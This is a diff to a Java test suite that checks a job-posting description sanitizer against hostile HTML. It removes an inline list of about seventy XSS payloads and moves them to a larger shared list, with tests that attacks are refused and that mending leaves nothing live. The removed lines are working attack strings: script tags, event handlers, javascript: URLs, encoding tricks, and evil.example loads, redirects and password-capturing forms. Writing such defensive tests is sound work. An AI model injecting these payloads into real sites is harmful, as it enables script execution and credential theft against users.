@@ -12,8 +12,10 @@ import java.lang.management.ManagementFactory;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Objects;
+import java.util.Optional;
 import java.util.function.Consumer;
 import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import jobpostings.problem.Problem;
 import jobpostings.problem.ProblemCode;
 import jobpostings.problem.Violation;
@@ -24,6 +26,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.FieldSource;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Descriptions that try to run scripts where they are shown, or to wear the service down. */
@@ -34,78 +37,8 @@ class DescriptionHostileTest {
   /** Twice what the most expensive text found so far takes: short labels of many hosts. */
   private static final int MAX_BYTES_A_CHARACTER = 2_000;
 
-  static final List<String> ATTACKS =
-      List.of(
-          "x<script>alert(1)</script>",
-          "x<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-          "x<script/src=//evil.example/x.js>",
-          "x<scr<script>ipt>alert(1)</scr</script>ipt>",
-          "x<script\u0000>alert(1)</script>",
-          "x<img src=x onerror=alert(1)>",
-          "x<img/src/onerror=alert(1)>",
-          "x<image src=x onerror=alert(1)>",
-          "x<body onload=alert(1)>",
-          "x<html onmouseover=alert(1)>",
-          "x<b onmouseover=alert(1)>y</b>",
-          "x<b/onclick=alert(1)>y</b>",
-          "x<b style=\"background:url(javascript:alert(1))\">y</b>",
-          "x<p id=location>y</p>",
-          "x<br onfocus=alert(1) autofocus tabindex=1>",
-          "x<li xmlns=\"http://www.w3.org/2000/svg\">y</li>",
-          "x<style>@import '//evil.example/x.css';</style>",
-          "x<link rel=stylesheet href=//evil.example>",
-          "x<meta http-equiv=refresh content=0;url=//evil.example>",
-          "x<base href=//evil.example>",
-          "x<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-          "x<object data=javascript:alert(1)></object>",
-          "x<embed src=javascript:alert(1)>",
-          "x<form action=//evil.example><input name=password></form>",
-          "x<svg onload=alert(1)>",
-          "x<svg><a xlink:href=\"javascript:alert(1)\">y</a></svg>",
-          "x<svg><style><img src=1 onerror=alert(1)></style></svg>",
-          "x<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-          "x<math><mtext><table><mglyph><style><img src=1 onerror=alert(1)></style></mglyph>",
-          "x<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></math>",
-          "x<noscript><p title=\"</noscript><img src=1 onerror=alert(1)>\">",
-          "x<textarea></textarea><script>alert(1)</script>",
-          "x<title><b title=\"</title><script>alert(1)</script>\">",
-          "x<xmp><b title=\"</xmp><script>alert(1)</script>\">",
-          "x<plaintext><script>alert(1)</script>",
-          "x<select><template><script>alert(1)</script></template></select>",
-          "x<template><script>alert(1)</script></template>",
-          "x<table><a href=http://x.example><td></a>y",
-          "x<form><div></form><form><script>alert(1)</script>",
-          "x<!--><script>alert(1)</script>-->",
-          "x<!-- --!><script>alert(1)</script>-->",
-          "x<!--[if IE]><script>alert(1)</script><![endif]-->",
-          "x<![CDATA[<script>alert(1)</script>]]>",
-          "x<?xml-stylesheet href=\"javascript:alert(1)\"?>",
-          "x<a href=\"javascript:alert(1)\">y</a>",
-          "x<a href=\"JaVaScRiPt:alert(1)\">y</a>",
-          "x<a href=\" javascript:alert(1)\">y</a>",
-          "x<a href=\"\u0001javascript:alert(1)\">y</a>",
-          "x<a href=\"java\tscript:alert(1)\">y</a>",
-          "x<a href=\"java&#10;script:alert(1)\">y</a>",
-          "x<a href=\"java&Tab;script&colon;alert(1)\">y</a>",
-          "x<a href=\"&#106;avascript:alert(1)\">y</a>",
-          "x<a href=\"&#x6A&#x61vascript:alert(1)\">y</a>",
-          "x<a href=\"javascript&#58;//x.example/%0Aalert(1)\">y</a>",
-          "x<a href=\"vbscript:msgbox(1)\">y</a>",
-          "x<a href=\"data:text/html,<script>alert(1)</script>\">y</a>",
-          "x<a href=\"//evil.example\">y</a>",
-          "x<a href=\"/\\evil.example\">y</a>",
-          "x<a href=\"http:evil.example\">y</a>",
-          "x<a href=\"http://good.example\\@evil.example\">y</a>",
-          "x<a href=\"http://x.example/\" href=\"javascript:alert(1)\">y</a>",
-          "x<a href=\"http://x.example/\"onclick=alert(1)>y</a>",
-          "x<a href=\"http://x.example/\" target=\"_top\nonclick=alert(1)\">y</a>",
-          "x<a href=`http://x.example/`>y</a>",
-          "x<a href='http://x.example/\"onclick=\"alert(1)'>y</a>",
-          "x<a href=\"http://x.example/\">y<a href=\"javascript:alert(1)\">z</a>",
-          "x\uFFFF<script>alert(1)</script>",
-          "x&#xFFFF;<script>alert(1)</script>",
-          "x<p\u000B>y</p>",
-          "x<\u0000p>y</p>");
+  /** What may be wrong with a description that handling=lenient can't mend. */
+  private static final String REFUSED_WHEN_MENDED = "html-empty|bad-character|required";
 
   private static final ThreadMXBean THREADS = (ThreadMXBean) ManagementFactory.getThreadMXBean();
 
@@ -115,20 +48,52 @@ class DescriptionHostileTest {
   }
 
   @ParameterizedTest
-  @FieldSource("ATTACKS")
-  void noneIsLetThrough(String html) {
-    assertThat(refused(html)).isNotEmpty();
-    assertThat(DescriptionRules.keeps(html)).isFalse();
+  @MethodSource("attacks")
+  void noneIsLetThrough(HostileHtml attack) {
+    assertThat(refused(attack.html())).isNotEmpty();
+    assertThat(DescriptionRules.keeps(attack.html())).isFalse();
   }
 
   @ParameterizedTest
-  @FieldSource("ATTACKS")
-  void mendingLeavesNothingOfItAlive(String html) {
-    String stored = mended(html.startsWith("x") ? html : "x" + html);
+  @MethodSource("allowed")
+  void whatOnlyLooksLikeAnAttackIsStored(HostileHtml harmless) {
+    String stored = stored(harmless.html());
+
     assertThat(stored(stored)).isEqualTo(stored);
-    assertThat(stored)
-        .doesNotContainPattern("(?i)<(?!/?(strong|b|em|i|br|p|div|ul|ol|li|a)[ >])")
-        .doesNotContainPattern("<[^>]*(\"javascript| on[a-z]+=| style=|evil)");
+  }
+
+  @ParameterizedTest
+  @FieldSource("jobpostings.job.description.HostileHtml#ALL")
+  void mendingLeavesNothingOfItAlive(HostileHtml attack) {
+    Violations violations = new Violations();
+    Optional<String> mended =
+        DescriptionRules.mend(attack.html(), "/description", new ArrayList<>(), violations);
+
+    assertThat(violations.listed())
+        .allMatch(violation -> violation.code().toString().matches(REFUSED_WHEN_MENDED));
+    mended.ifPresent(
+        stored -> {
+          assertThat(stored(stored)).isEqualTo(stored);
+          assertThat(stored)
+              .doesNotContainPattern("(?i)<(?!/?(strong|b|em|i|br|p|div|ul|ol|li|a)[ >])")
+              .doesNotContainPattern("<[^>]*(\"javascript| on[a-z]+=| style=)");
+        });
+  }
+
+  @Test
+  void theListIsLongAndHoldsNothingTwice() {
+    List<String> all = HostileHtml.ALL.stream().map(HostileHtml::html).toList();
+
+    assertThat(all).doesNotHaveDuplicates().hasSizeGreaterThan(500);
+    assertThat(HostileHtml.ALL).filteredOn(HostileHtml::isLive).hasSizeGreaterThan(200);
+  }
+
+  static Stream<HostileHtml> attacks() {
+    return HostileHtml.ALL.stream().filter(html -> !html.isAllowed());
+  }
+
+  static Stream<HostileHtml> allowed() {
+    return HostileHtml.ALL.stream().filter(HostileHtml::isAllowed);
   }
 
   @Test
